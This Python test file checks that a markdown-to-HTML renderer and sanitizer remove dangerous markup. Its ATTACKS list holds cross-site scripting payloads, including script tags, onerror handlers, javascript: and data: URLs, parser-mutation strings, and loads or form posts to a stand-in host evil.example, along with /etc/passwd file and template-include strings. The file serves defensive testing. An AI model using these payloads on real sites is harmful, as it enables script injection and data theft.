"""Rendered HTML is safe: threats N04, N05 and C10, checked by parsing the result with another parser."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from marronnier.text import markdown_parser
from marronnier.text.html import ALLOWED_TAGS, render_html, sanitize_html
from text.markdown_texts import markdown

ALLOWED = {
    "href",
    "src",
    "alt",
    "title",
    "lang",
    "dir",
    "rel",
    "start",
    "reversed",
    "class",
    "align",
    "colspan",
    "rowspan",
    "scope",
    "width",
    "height",
    "open",
}


class Reader(HTMLParser):
    """The elements and attributes that a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.met: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.met.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data}")


def assert_safe(markup: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Reader()
    reader.feed(markup)
    reader.close()
    for tag, attributes in reader.met:
        assert tag in ALLOWED_TAGS
        assert set(attributes) <= ALLOWED
        for name in ("href", "src"):
            address = "".join(character for character in attributes.get(name) or "" if character > " ")
            scheme = address.partition(":")[0].lower() if ":" in address.partition("/")[0] else ""
            assert scheme in ("", "http", "https", "mailto", "tel")
        if tag == "img":
            assert attributes.get("src") and not (attributes["src"] or "").replace("\\", "/").startswith("//")
            assert ":" not in (attributes["src"] or "")
        if "href" in attributes:
            assert attributes["rel"] == "noopener"
    return reader.met


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=\" \x01javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](vbscript:x) [y](file:///etc/passwd)",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=a><button>ok</button></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content='0;url=https://evil.example'><base href=//evil.example>",
    "<img src='//evil.example/x.png'> <img src='/\\evil.example/x.png'> <img src='\\\\evil.example/x.png'> <img src='https://evil.example/p.gif'>",
    "<img src='/\t/evil.example/x.png'> ![x](<//evil.example/x.png>) ![x](https://evil.example/x.png)",
    "<img src=a.png srcset='https://evil.example/x.png 2x'>",
    "<video poster=https://evil.example/x.png src=https://evil.example/x.mp4></video><audio src=//evil.example></audio>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<!--[if IE]><script>alert(1)</script><![endif]--> <!DOCTYPE x> <?php echo 1 ?> <![CDATA[x]]>",
    "```\"><script>alert(1)</script>\nx\n```",
    "[x](https://example.org \"><script>alert(1)</script>\")",
    "![\"><script>alert(1)</script>](a.png) ![a > b](https://evil.example/x.png)",
    "<a href=https://example.org target=_blank rel=opener ping=https://evil.example id=main class=x name=y>x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template><textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "{{ 7 * 7 }} {% include '/etc/passwd' %}",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_n04_n05_c10_no_dangerous_html_is_left(attack: str) -> None:
    markup = render_html(attack)
    assert_safe(markup)
    assert_safe(sanitize_html(attack))
    assert "evil.example" not in " ".join(str(value) for tag, found in assert_safe(markup) for name, value in found.items() if tag == "img")
    # Read and written once more it is the same: no mutation between parsers.
    assert sanitize_html(markup) == markup


@settings(max_examples=120)
@given(st.one_of(markdown, st.lists(st.sampled_from(ATTACKS), min_size=1, max_size=4).map("\n\n".join), st.text()))
def test_n05_any_text_is_safe(text: str) -> None:
    assert_safe(render_html(text))


def test_markdown_becomes_html() -> None:
    assert render_html("**On** _plante_ ~~lundi~~ !\n\n- [le lieu](https://example.org/?a=1&b=2)\n\n---\n\nhttps://example.org/_a_") == (
        "<p><strong>On</strong> <em>plante</em> <s>lundi</s> !</p>\n"
        '<ul>\n<li><a href="https://example.org/?a=1&amp;b=2" rel="noopener">le lieu</a></li>\n</ul>\n<hr>\n'
        '<p><a href="https://example.org/_a" rel="noopener">https://example.org/_a</a>_</p>'
    )


def test_a_picture_is_kept_only_when_its_path_is_local() -> None:
    assert render_html("![Un jardin](media/jardin-01.jpg)") == '<p><img src="media/jardin-01.jpg" alt="Un jardin"></p>'
    assert render_html("![Un jardin](https://example.org/x.jpg)") == "<p>Un jardin</p>"


def test_typography_stays() -> None:
    assert (
        render_html("«\u00a0Venez\u202f!\u00a0» &amp;nbsp; l’été 👨‍👩‍👧‍👦") == "<p>«\u00a0Venez\u202f!\u00a0» &amp;nbsp; l’été 👨‍👩‍👧‍👦</p>"
    )


def test_code_keeps_its_language_and_its_characters() -> None:
    assert render_html("```py\na < *b*\n```") == '<pre><code class="language-py">a &lt; *b*\n</code></pre>'


def test_c02_deep_nesting_is_shown_as_typed() -> None:
    assert render_html(">" * 5000 + " x & y").endswith("&gt; x &amp; y</pre>")


MARKS = st.sampled_from(
    [
        *("[a](b)", "[a](<>)", "[a]()", "[a](javascript:x)", "![i](p%20é.png)", "![x [y](z)](w)", "[r]", "[r]: <>", "[r]: http://é.x/ü"),
        *("\n", "\n\n", "- ", "> ", "`c`", "http://a.b/é_c", "<http://x.y/ü>", "<a@b.c>", "**", "_", "~", "~~", "[[", "](", "é", "<b>"),
        *("|a|b|\n|-|-|\n", "# ", "    ", "[d](data:text/html,x)", "![d](data:image/png;base64,x)", "&amp;", "\\", "@_h", "\r\n"),
    ]
)


@settings(max_examples=300)
@given(st.lists(MARKS, max_size=14).map("".join))
def test_html_made_from_the_parse_for_plain_text_is_what_the_parse_for_html_gives(text: str) -> None:
    parser = markdown_parser.markdown_parser(exact=False)
    parsed = parser.parse(text)
    shared = markdown_parser._with_encoded_addresses(text)
    if shared is not None:
        assert [token.as_dict() for token in shared] == [token.as_dict() for token in parsed]
        assert parser.renderer.render(shared, parser.options, {}) == parser.renderer.render(parsed, parser.options, {})
    # Rendering writes into tokens: what is kept for the next text stays as it was parsed.
    assert markdown_parser.parse_tokens(text, exact=True) == markdown_parser.markdown_parser(exact=True).parse(text)
